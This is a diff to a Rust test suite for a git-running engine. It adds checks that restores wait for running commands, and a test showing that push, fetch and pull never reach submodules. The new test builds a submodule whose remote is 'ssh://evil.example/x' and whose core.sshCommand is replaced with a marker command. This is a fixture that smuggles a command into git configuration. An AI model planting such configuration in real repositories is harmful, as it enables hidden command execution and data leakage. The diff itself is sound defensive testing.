@@ -8,6 +8,7 @@ use crate::{
 use kerf_engine::{Engine, Feed, FeedMessage, Options};
 use kerf_protocol::{
     Code, Failure,
+    checkpoint::{Restore, RestoreWhat},
     git::command::{
         AnswerGit, GitAct, GitEnd, GitPreview, GitPromptKind, GitRun, PreviewGit, PullHow, RunGit,
     },
@@ -145,6 +146,18 @@ impl Scene {
         self.engine.call::<method::GitAnswer>(answer).await.unwrap();
     }
 
+    /// Stops a command that runs, and waits for its end.
+    async fn stop(&mut self, run: &GitRun) -> GitRun {
+        let stop = AnswerGit {
+            folder: self.folder(),
+            id: run.id,
+            prompt: None,
+            answer: None,
+        };
+        self.engine.call::<method::GitAnswer>(stop).await.unwrap();
+        self.until(|run| run.end.is_some()).await
+    }
+
     async fn asked(&mut self, after: u32) -> GitRun {
         self.until(|run| run.prompt.as_ref().is_some_and(|prompt| prompt.id > after))
             .await
@@ -176,6 +189,7 @@ async fn a_push_is_shown_and_then_does_just_that() {
             "git",
             "push",
             "--progress",
+            "--no-recurse-submodules",
             "--set-upstream",
             "origin",
             "refs/heads/main:refs/heads/main"
@@ -346,14 +360,7 @@ async fn one_command_runs_at_a_time_and_is_stopped_with_all_that_it_started() {
     {
         tokio::task::yield_now().await;
     }
-    let stop = AnswerGit {
-        folder: scene.folder(),
-        id: running.id,
-        prompt: None,
-        answer: None,
-    };
-    scene.engine.call::<method::GitAnswer>(stop).await.unwrap();
-    let done = scene.until(|run| run.end.is_some()).await;
+    let done = scene.stop(&running).await;
     assert_eq!(done.end, Some(GitEnd::Stopped));
     let pid: i32 = fs::read_to_string(&pid).unwrap().trim().parse().unwrap();
     let pid = rustix::process::Pid::from_raw(pid).unwrap();
@@ -420,7 +427,7 @@ async fn hooks_run_see_no_key_and_cannot_ask() {
 }
 
 #[tokio::test]
-async fn no_turn_begins_while_a_command_may_change_files() {
+async fn neither_turn_nor_restore_begins_while_a_command_may_change_files() {
     let mut scene = Scene::new().await;
     scene.hook("pre-commit", "echo waiting\nsleep 1000");
     scene.bench.fixture.write("a.txt", "two\n");
@@ -434,14 +441,16 @@ async fn no_turn_begins_while_a_command_may_change_files() {
     let session = scene.bench.session(&scene.engine, ApproveMode::Auto).await;
     let refused = prompt(&scene.engine, session.id, "go").await.unwrap_err();
     assert_eq!(refused.code, Code::Conflict, "{refused:?}");
-    let stop = AnswerGit {
-        folder: scene.folder(),
-        id: running.id,
-        prompt: None,
-        answer: None,
+    let restore = Restore {
+        session_id: session.id,
+        checkpoint_id: 1,
+        what: RestoreWhat::Files,
+        paths: None,
     };
-    scene.engine.call::<method::GitAnswer>(stop).await.unwrap();
-    scene.until(|run| run.end.is_some()).await;
+    let restored = scene.engine.call::<method::CheckpointRestore>(restore);
+    let refused = restored.await.unwrap_err();
+    assert!(refused.message.contains("git command"), "{refused:?}");
+    scene.stop(&running).await;
     prompt(&scene.engine, session.id, "go").await.unwrap();
     scene.engine.idle(session.id).await.unwrap();
 }
@@ -536,6 +545,55 @@ async fn names_and_addresses_that_git_could_take_for_something_else_are_refused(
         assert!(refused.is_err(), "{name}: {refused:?}");
     }
     assert!(!marker.exists());
+}
+
+/// A submodule has an address of its own, which nobody was shown.
+#[tokio::test]
+async fn a_submodule_is_neither_asked_nor_sent_to() {
+    let mut scene = Scene::new().await;
+    let asked = scene.bench.home.path().join("asked");
+    let inner = scene.bench.fixture.join("inner");
+    let path = inner.display().to_string();
+    scene.git(&["init", "--quiet", "--initial-branch=main", &path]);
+    for words in [
+        &["config", "user.name", "Ada"][..],
+        &["config", "user.email", "ada@example.com"],
+        &["commit", "--quiet", "--allow-empty", "--message=in"],
+        // It was pushed once, and has more since.
+        &["update-ref", "refs/remotes/origin/main", "HEAD"],
+        &["commit", "--quiet", "--allow-empty", "--message=more"],
+        &["remote", "add", "origin", "ssh://evil.example/x"],
+        &[
+            "config",
+            "core.sshCommand",
+            &format!("touch {}", asked.display()),
+        ],
+    ] {
+        scene.git_in(&inner, words);
+    }
+    scene.bench.fixture.write(
+        ".gitmodules",
+        "[submodule \"inner\"]\n\tpath = inner\n\turl = ssh://evil.example/x\n\tfetchRecurseSubmodules = true\n",
+    );
+    scene.git(&["add", "--all"]);
+    scene.git(&["commit", "--quiet", "--message=inner"]);
+    for name in [
+        "submodule.recurse",
+        "submodule.inner.active",
+        "submodule.inner.fetchRecurseSubmodules",
+    ] {
+        scene.git(&["config", name, "true"]);
+    }
+    scene.git(&["config", "push.recurseSubmodules", "on-demand"]);
+    scene.git(&["config", "submodule.inner.url", "ssh://evil.example/x"]);
+    let pull = GitAct::Pull {
+        how: PullHow::FastForward,
+    };
+    for act in [push(), GitAct::Fetch { remote: None }, pull] {
+        let done = scene.run(act.clone()).await;
+        assert_eq!(done.end, Some(GitEnd::Done), "{act:?}: {}", done.output);
+        assert!(!asked.exists(), "{act:?}");
+    }
 }
 
 #[tokio::test]
